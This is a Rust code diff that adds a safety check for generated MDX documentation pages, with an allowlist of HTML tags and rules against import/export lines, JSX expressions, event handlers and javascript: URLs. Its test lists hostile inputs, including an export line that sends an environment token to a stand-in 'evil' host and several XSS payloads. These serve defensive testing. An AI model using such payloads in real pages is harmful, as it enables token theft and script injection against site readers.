@@ -179,6 +179,11 @@ fn check_markdown(body: &str) -> Vec<String> {
             "the code fence opened on line {line} is never closed"
         ));
     }
+    for line in module_lines(body) {
+        problems.push(format!(
+            "line {line} starts with `import`/`export`: MDX runs it as JavaScript; generated docs may not contain code"
+        ));
+    }
     let mut in_code = false;
     let mut open_tags: Vec<String> = Vec::new();
     // pulldown-cmark splits prose into several text events around `<`, `{`, `[`…: check runs.
@@ -260,6 +265,9 @@ fn track_tags(html: &str, open: &mut Vec<String>, problems: &mut Vec<String>) {
         }
         let end = rest.find('>').unwrap_or(rest.len());
         let self_closing = rest[..end].ends_with('/');
+        if !closing {
+            check_tag_safety(&name, &rest[..end], problems);
+        }
         if closing {
             if let Some(pos) = open.iter().rposition(|t| *t == name) {
                 open.remove(pos);
@@ -270,6 +278,98 @@ fn track_tags(html: &str, open: &mut Vec<String>, problems: &mut Vec<String>) {
             open.push(name);
         }
     }
+}
+
+/// The HTML a generated page may contain. MDX compiles tags into the site's JavaScript, so
+/// anything that runs code (scripts, frames, event handlers, expressions, components) is refused:
+/// the model's output must never become code in the maintainers' CI or the readers' browsers.
+const ALLOWED_TAGS: &[&str] = &[
+    "a",
+    "abbr",
+    "b",
+    "blockquote",
+    "br",
+    "code",
+    "dd",
+    "del",
+    "details",
+    "div",
+    "dl",
+    "dt",
+    "em",
+    "figcaption",
+    "figure",
+    "h1",
+    "h2",
+    "h3",
+    "h4",
+    "h5",
+    "h6",
+    "hr",
+    "i",
+    "img",
+    "ins",
+    "kbd",
+    "li",
+    "mark",
+    "ol",
+    "p",
+    "pre",
+    "s",
+    "small",
+    "span",
+    "strong",
+    "sub",
+    "summary",
+    "sup",
+    "table",
+    "tbody",
+    "td",
+    "th",
+    "thead",
+    "tr",
+    "u",
+    "ul",
+];
+
+fn check_tag_safety(name: &str, tag: &str, problems: &mut Vec<String>) {
+    if !ALLOWED_TAGS.contains(&name) {
+        problems.push(format!(
+            "`<{name}>` is not allowed in generated docs (only plain HTML formatting tags are)"
+        ));
+        return;
+    }
+    let lower = tag.to_ascii_lowercase();
+    if lower.contains('{') {
+        problems.push(format!(
+            "`<{name}>` has a JSX expression `{{…}}`; generated docs may not contain code"
+        ));
+    }
+    let has_handler = lower
+        .split(|c: char| c.is_whitespace())
+        .any(|attr| attr.starts_with("on") && attr.contains('='));
+    if has_handler || lower.contains("javascript:") {
+        problems.push(format!(
+            "`<{name}>` has an event handler or a `javascript:` URL"
+        ));
+    }
+}
+
+/// Lines outside code that MDX would run as JavaScript (`import …`, `export …`).
+fn module_lines(body: &str) -> Vec<usize> {
+    let mut in_fence = false;
+    let mut lines = Vec::new();
+    for (i, line) in body.lines().enumerate() {
+        let t = line.trim_start();
+        if t.starts_with("```") || t.starts_with("~~~") {
+            in_fence = !in_fence;
+            continue;
+        }
+        if !in_fence && (t.starts_with("import ") || t.starts_with("export ")) {
+            lines.push(i + 1);
+        }
+    }
+    lines
 }
 
 /// Line (1-based) of a ``` or ~~~ fence that is opened and never closed.
@@ -361,6 +461,39 @@ mod tests {
         assert!(!problems("docs/a.md", "<details>\n\nopen forever\n").is_empty());
         assert!(!problems("docs/a.md", "Line<br>break\n").is_empty());
         assert!(problems("docs/a.md", "```bash\necho hi\n")[0].contains("never closed"));
+    }
+
+    #[test]
+    fn code_that_mdx_would_run_is_refused() {
+        for bad in [
+            "export const x = fetch('https://evil/' + process.env.TOKEN);\n",
+            "import Evil from '@site/src/evil';\n\n<Evil />\n",
+            "<script>alert(1)</script>\n",
+            "<iframe src=\"https://evil\"></iframe>\n",
+            "<img src=\"x.png\" onerror=\"alert(1)\" />\n",
+            "<a href=\"javascript:alert(1)\">x</a>\n",
+            "<div style={{color: 'red'}}>x</div>\n",
+        ] {
+            assert!(
+                !problems("docs/a.md", bad).is_empty(),
+                "{bad} must be refused"
+            );
+        }
+        // Code in fences is text, not code to run.
+        assert_eq!(
+            problems(
+                "docs/a.md",
+                "```js\nimport x from 'y';\nexport default x;\n```\n"
+            ),
+            Vec::<String>::new()
+        );
+        assert_eq!(
+            problems(
+                "docs/a.md",
+                "<details>\n<summary>More</summary>\n\nText.\n\n</details>\n"
+            ),
+            Vec::<String>::new()
+        );
     }
 
     #[test]
